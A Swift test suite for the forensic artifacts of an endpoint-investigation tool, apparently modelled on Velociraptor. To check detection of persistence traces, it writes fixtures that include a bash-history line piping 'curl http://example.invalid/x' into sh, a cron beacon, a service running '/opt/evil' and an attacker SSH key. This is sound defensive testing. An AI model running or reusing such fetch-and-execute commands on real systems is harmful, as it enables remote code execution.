import Foundation
import QuarryDetect
import QuarryHost
import Testing
import VQL
@testable import Artifacts

/// Collects each built-in artifact on this host (with all plugins registered, as `quarry` does)
/// and checks real content. Where the host may lack the data (history files, keys), the test
/// creates it and points the artifact's parameter at it.
@Suite struct BuiltinArtifactTests {
    static func host(_ text: String, setup: (Session) -> Void = { _ in }) throws -> (rows: [Value], log: [String]) {
        let registry = CoreLibrary.registry()
        registry.add(plugins: HostLibrary.plugins, functions: HostLibrary.functions, accessors: HostLibrary.accessors)
        registry.add(plugins: DetectLibrary.plugins, functions: DetectLibrary.functions)
        ArtifactRepository.builtin().install(into: registry)
        let logger = MemoryLogger()
        let session = Session(registry: registry, logger: logger)
        setup(session)
        let results = try session.run(text)
        return ((results.last ?? nil) ?? [], logger.messages)
    }

    static func scratch() throws -> String {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("quarry-art-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        return dir
    }

    @Test func clientInfoUsersGroupsMountsPackages() throws {
        let info = try Self.host("SELECT * FROM Artifact.Generic.Client.Info()").rows
        #expect(info.first?.member("OS").stringValue == "linux")
        #expect(info.first?.member("Hostname").stringValue == ProcessInfo.processInfo.hostName)
        let users = try Self.host("SELECT * FROM Artifact.Linux.Sys.Users() WHERE User = 'root'").rows
        #expect(users.first?.member("Uid").stringValue == "0")
        let groups = try Self.host("SELECT * FROM Artifact.Linux.Sys.Groups() WHERE Group = 'root'").rows
        #expect(groups.first?.member("GID").intValue == 0)
        #expect(users.first?.member("Shell").stringValue?.hasSuffix("sh") == true)
        let mounts = try Self.host("SELECT * FROM Artifact.Linux.Mounts() WHERE Mount = '/proc'").rows
        #expect(mounts.first?.member("FSType").stringValue == "proc")
        #expect(mounts.first.map { JSONWriter.string($0.member("Options")) }?.hasPrefix("[") == true)
        let packages = try Self.host("SELECT * FROM Artifact.Linux.Debian.Packages(source='DebPackages') WHERE Package = 'dpkg'").rows
        #expect(packages.first?.member("State").stringValue == "installed")
        #expect(packages.first?.member("_SelectionState").stringValue == "install")
        #expect(packages.first?.member("InstalledSize").stringValue?.isEmpty == false)
    }

    @Test func pslistAndNetstatSeeThisProcess() throws {
        let pid = Int64(getpid())
        let own = try Self.host("SELECT * FROM Artifact.Linux.Sys.Pslist() WHERE Pid = P") { $0.root.set("P", .int(pid)) }.rows
        #expect(own.count == 1)
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(fd) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = 0
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, length) } }
        listen(fd, 1)
        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) } }
        let port = Int64(UInt16(bigEndian: address.sin_port))
        let rows = try Self.host("SELECT * FROM Artifact.Linux.Network.Netstat(source='TCP') WHERE LocalPort = Port") { $0.root.set("Port", .int(port)) }.rows
        #expect(rows.first?.member("Status").stringValue == "LISTEN")
        #expect(rows.first?.member("Pid").intValue == pid)
    }

    @Test func modulesWhenTheKernelHasThem() throws {
        let (rows, log) = try Self.host("SELECT * FROM Artifact.Linux.Proc.Modules()")
        if FileManager.default.fileExists(atPath: "/proc/modules") {
            #expect(!rows.isEmpty)
        } else {
            #expect(log.contains { $0.contains("/proc/modules") })
        }
    }

    @Test func persistenceArtifactsReadWhatTheyAreGiven() throws {
        let dir = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try "# comment\nSHELL=/bin/sh\n*/5 * * * * root /usr/local/bin/beacon --quiet\n@reboot /opt/start.sh\n".write(toFile: dir + "/crontab", atomically: true, encoding: .utf8)
        try "ls -la\ncurl http://example.invalid/x | sh\n".write(toFile: dir + "/.bash_history", atomically: true, encoding: .utf8)
        try "[Unit]\nDescription=Totally Legit\n[Service]\nExecStart=/opt/evil --daemon\n".write(toFile: dir + "/legit.service", atomically: true, encoding: .utf8)
        try "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEC8nTV4y7Q7 attacker@box\n# old key\ncommand=\"/bin/date\",no-pty ssh-rsa AAAAB3NzaC1yc2E backup\n".write(toFile: dir + "/authorized_keys", atomically: true, encoding: .utf8)
        _ = FileManager.default.createFile(atPath: dir + "/suid-tool", contents: Data("#!/bin/sh\n".utf8), attributes: [.posixPermissions: 0o4755])
        let cron = try Self.host("SELECT * FROM Artifact.Linux.Sys.Crontab(cronTabGlob=D + '/crontab')") { $0.root.set("D", .string(dir)) }.rows
        #expect(cron.filter { $0.member("_Source").stringValue == "Linux.Sys.Crontab/CronTabs" }.count == 2)
        #expect(cron.contains { $0.member("Minute").stringValue == "*/5" && $0.member("Command").stringValue == "root /usr/local/bin/beacon --quiet" })
        #expect(cron.contains { $0.member("Event").stringValue == "@reboot" && $0.member("Command").stringValue == "/opt/start.sh" })
        let history = try Self.host("SELECT * FROM Artifact.Linux.Sys.BashHistory(TargetGlob=D + '/.bash_history')") { $0.root.set("D", .string(dir)) }.rows
        #expect(history.map { $0.member("Line").stringValue ?? "" } == ["ls -la", "curl http://example.invalid/x | sh"])
        let curls = try Self.host("SELECT * FROM Artifact.Linux.Sys.BashHistory(TargetGlob=D + '/.bash_history', SearchRegex='curl|ls', WhitelistRegex='^ls')") { $0.root.set("D", .string(dir)) }.rows
        #expect(curls.map { $0.member("Line").stringValue ?? "" } == ["curl http://example.invalid/x | sh"])
        let services = try Self.host("SELECT * FROM Artifact.Linux.Sys.Services(unitGlob=D + '/*.service')") { $0.root.set("D", .string(dir)) }.rows
        #expect(services.first?.member("Description").stringValue == "Totally Legit")
        #expect(services.first?.member("ExecStart").stringValue == "/opt/evil --daemon")
        let keys = try Self.host("SELECT * FROM Artifact.Linux.Ssh.AuthorizedKeys(sshKeyFilesGlob=D + '/authorized_keys')") { $0.root.set("D", .string(dir)) }.rows
        #expect(keys.count == 2)
        #expect(keys.first?.member("comment").stringValue == "attacker@box")
        #expect(keys.first?.member("keytype").stringValue == "ssh-ed25519")
        #expect(keys.last.map { JSONWriter.string($0.member("options")) } == #"["command=/bin/date","no-pty"]"#)
        let suid = try Self.host("SELECT * FROM Artifact.Linux.Sys.SUID(GlobExpression=D + '/**')") { $0.root.set("D", .string(dir)) }.rows
        #expect(suid.map { $0.member("OSPath").stringValue ?? "" } == [dir + "/suid-tool"])
        #expect(suid.first?.member("Mode").stringValue?.hasPrefix("u") == true)
        #expect(suid.first?.member("OwnerID").intValue == Int64(getuid()))
    }

    @Test func fileFinderWithYaraHashAndUpload() throws {
        let dir = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try "nothing here\n".write(toFile: dir + "/a.txt", atomically: true, encoding: .utf8)
        try "has the MAGIC-WORD inside\n".write(toFile: dir + "/b.txt", atomically: true, encoding: .utf8)
        let uploads = dir + "/uploads"
        let (rows, log) = try Self.host("""
            SELECT * FROM Artifact.Linux.Search.FileFinder(SearchFilesGlob=D + '/*.txt', YaraRule='rule M { strings: $a = "MAGIC-WORD" condition: $a }',
                                                          Calculate_Hash='Y', Upload_File='Y')
            """) {
            $0.root.set("D", .string(dir))
            $0.context.setService(UploadService.key, DirectoryUploads(root: uploads) as any UploadDestination)
        }
        #expect(rows.count == 1, "\(log)")
        #expect(rows.first?.member("Path").stringValue == dir + "/b.txt")
        #expect(rows.first?.member("Hash").member("SHA256").stringValue?.count == 64)
        #expect(rows.first?.member("Upload").member("Size").intValue == 26)
    }

    @Test func yaraProcessFindsAMarkedChild() throws {
        let child = Process()
        child.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        child.arguments = ["python3", "-c", "import time; m = 'QUARRY-ART-' + 'MARK-' + str(777); time.sleep(30)"]
        try child.run()
        defer { child.terminate() }
        Thread.sleep(forTimeInterval: 0.5)
        let (rows, log) = try Self.host("SELECT * FROM Artifact.Linux.Detection.Yara.Process(processRegex='^python', yaraRule='QUARRY-ART-MARK-777')")
        #expect(rows.contains { $0.member("Pid").intValue == Int64(child.processIdentifier) }, "\(log)")
    }

    @Test func triageCollectsEverySourceIntoOneContainer() throws {
        let dir = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let registry = CoreLibrary.registry()
        registry.add(plugins: HostLibrary.plugins, functions: HostLibrary.functions, accessors: HostLibrary.accessors)
        registry.add(plugins: DetectLibrary.plugins, functions: DetectLibrary.functions)
        let repository = ArtifactRepository.builtin()
        repository.install(into: registry)
        let collector = try Collector(repository: repository, registry: registry, output: dir + "/triage.zip", options: CollectionOptions(), cancellation: CancellationFlag())
        let summary = try collector.collect(["Linux.Triage.Basic"])
        #expect(summary.state == "finished", "\(summary.errors)")
        let counts = Dictionary(summary.rows.map { ($0.source, $0.count) }, uniquingKeysWith: { a, _ in a })
        #expect((counts["Linux.Triage.Basic/Users"] ?? 0) > 0)
        #expect((counts["Linux.Triage.Basic/Pslist"] ?? 0) > 0)
        #expect(counts["Linux.Triage.Basic/Info"] == 1)
        let zip = try ZipReader(path: dir + "/triage.zip")
        #expect(zip.members.contains { $0.name == "results/Linux.Triage.Basic%2FPackages.json" })
        #expect(zip.members.contains { $0.name == "client_info.json" })
    }
}

extension BuiltinArtifactTests {
    /// Builds glibc `struct utmp` records (384 bytes) the way login(1) writes them.
    static func utmpRecord(type: Int16, pid: Int32, line: String, user: String, host: String, seconds: Int32, ip: [UInt8]) -> Data {
        var b = [UInt8](repeating: 0, count: 384)
        func put(_ value: Int32, at o: Int) { for i in 0..<4 { b[o + i] = UInt8(truncatingIfNeeded: value >> (8 * i)) } }
        func text(_ s: String, at o: Int, max: Int) { for (i, c) in s.utf8.prefix(max).enumerated() { b[o + i] = c } }
        b[0] = UInt8(truncatingIfNeeded: type)
        put(pid, at: 4)
        text(line, at: 8, max: 32)
        text(user, at: 44, max: 32)
        text(host, at: 76, max: 256)
        put(seconds, at: 340)
        for (i, v) in ip.enumerated() { b[348 + i] = v }
        return Data(b)
    }

    @Test func lastUserLoginReadsWtmpRecords() throws {
        let dir = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        var data = Self.utmpRecord(type: 7, pid: 4242, line: "pts/3", user: "mallory", host: "203.0.113.9", seconds: 1_700_000_000, ip: [203, 0, 113, 9])
        data += Self.utmpRecord(type: 8, pid: 4242, line: "pts/3", user: "", host: "", seconds: 1_700_000_600, ip: [])
        data += Data([1, 2, 3])
        _ = FileManager.default.createFile(atPath: dir + "/wtmp", contents: data)
        let (rows, log) = try Self.host("SELECT * FROM Artifact.Linux.Sys.LastUserLogin(wtmpGlobs=D + '/wtmp')") { $0.root.set("D", .string(dir)) }
        #expect(rows.count == 2)
        #expect(rows.first?.member("User").stringValue == "mallory")
        #expect(rows.first?.member("Address").stringValue == "203.0.113.9")
        #expect(rows.first?.member("Type").stringValue == "USER_PROCESS")
        #expect(JSONWriter.string(rows.first?.member("Time") ?? .null) == "\"2023-11-14T22:13:20Z\"")
        #expect(log.contains { $0.contains("truncated last record") })
    }
}

extension BuiltinArtifactTests {
    /// Velociraptor's own Linux artifacts whose plugins Quarry has run here without errors
    /// (the first rows of each; the accessors Quarry lacks are the only tolerated failure).
    @Test(.enabled(if: FileManager.default.fileExists(atPath: packageRoot + "/../shared/conformance/velociraptor-artifacts")))
    func velociraptorLinuxArtifactsRun() throws {
        let repository = ArtifactRepository()
        repository.load(directory: packageRoot + "/../shared/conformance/velociraptor-artifacts")
        let registry = CoreLibrary.registry()
        registry.add(plugins: HostLibrary.plugins, functions: HostLibrary.functions, accessors: HostLibrary.accessors)
        registry.add(plugins: DetectLibrary.plugins, functions: DetectLibrary.functions)
        repository.install(into: registry)
        var ran = 0
        // Artifacts that need an external tool (osquery, …) from the server's inventory cannot run here.
        for artifact in repository.artifacts where artifact.name.hasPrefix("Linux.") && artifact.type == .client && artifact.tools.isEmpty {
            let texts = [artifact.export, artifact.precondition].compactMap { $0 } + artifact.sources.map(\.query)
            let statements = texts.compactMap { try? Parser.parse($0) }.flatMap { $0 }
            let missing = Binder.check(statements, registry: registry, knownNames: Set(artifact.parameters.map(\.name)))
                .filter { $0.kind == .unknownPlugin || $0.kind == .unknownFunction }
            guard missing.isEmpty else { continue }
            let logger = MemoryLogger()
            let session = Session(registry: registry, logger: logger)
            // Artifacts that upload (now that every name they call exists) get a scratch folder.
            let uploads = NSTemporaryDirectory() + "/quarry-uploads-\(UUID().uuidString)"
            defer { try? FileManager.default.removeItem(atPath: uploads) }
            session.context.setService(UploadService.key, DirectoryUploads(root: uploads) as any UploadDestination)
            // An artifact may keep running by design (Linux.Sys.BashShell keeps its shell for an
            // hour): query()'s timeout also ends a cursor that waits.
            _ = try session.run("SELECT * FROM query(query={ SELECT * FROM Artifact.\(artifact.name)() }, timeout=20) LIMIT 5")
            // An artifact built around a program this machine lacks (zypper on Debian) cannot
            // give rows here; what follows from the missing output is not Quarry's error.
            if logger.messages.contains(where: { $0.contains("cannot find program") }) { continue }
            let errors = logger.messages.filter { $0.hasPrefix("ERROR") && !$0.contains("accessor") }
            #expect(errors.isEmpty, "\(artifact.name): \(errors)")
            ran += 1
        }
        #expect(ran >= 12)
    }
}
